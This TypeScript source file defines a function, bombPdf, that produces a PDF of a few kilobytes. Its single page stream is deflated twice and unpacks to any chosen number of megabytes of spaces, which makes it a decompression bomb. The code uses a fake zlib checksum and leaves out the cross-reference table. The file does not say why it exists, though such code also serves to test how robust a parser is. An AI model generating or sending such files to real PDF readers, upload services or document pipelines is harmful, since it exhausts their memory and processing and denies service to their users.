import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A megabyte of spaces, packed so that any number of these blocks can follow one another in one stream. */
const MEGABYTE = deflateRawSync(Buffer.alloc(1e6, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
const BEGIN = Buffer.from([0x78, 0x9c]);
/** An empty last block, and a checksum that readers of PDFs do not check. */
const END = Buffer.from([0x03, 0x00, 0, 0, 0, 0]);

/** Makes a PDF of a few kilobytes whose one page unpacks, in two steps, to the given number of megabytes of spaces. */
export function bombPdf(megabytes: number): Buffer {
  const packed = Buffer.concat([BEGIN, ...Array.from({ length: megabytes }, () => MEGABYTE), END]);
  const stream = deflateSync(packed, { level: 9 });
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
  ].map((body, index) => Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`));
  const head = `4 0 obj\n<< /Length ${stream.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`;
  // The PDF has no table of its objects, so readers search the file for them.
  const end = '\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n';
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects, Buffer.from(head), stream, Buffer.from(end)]);
}
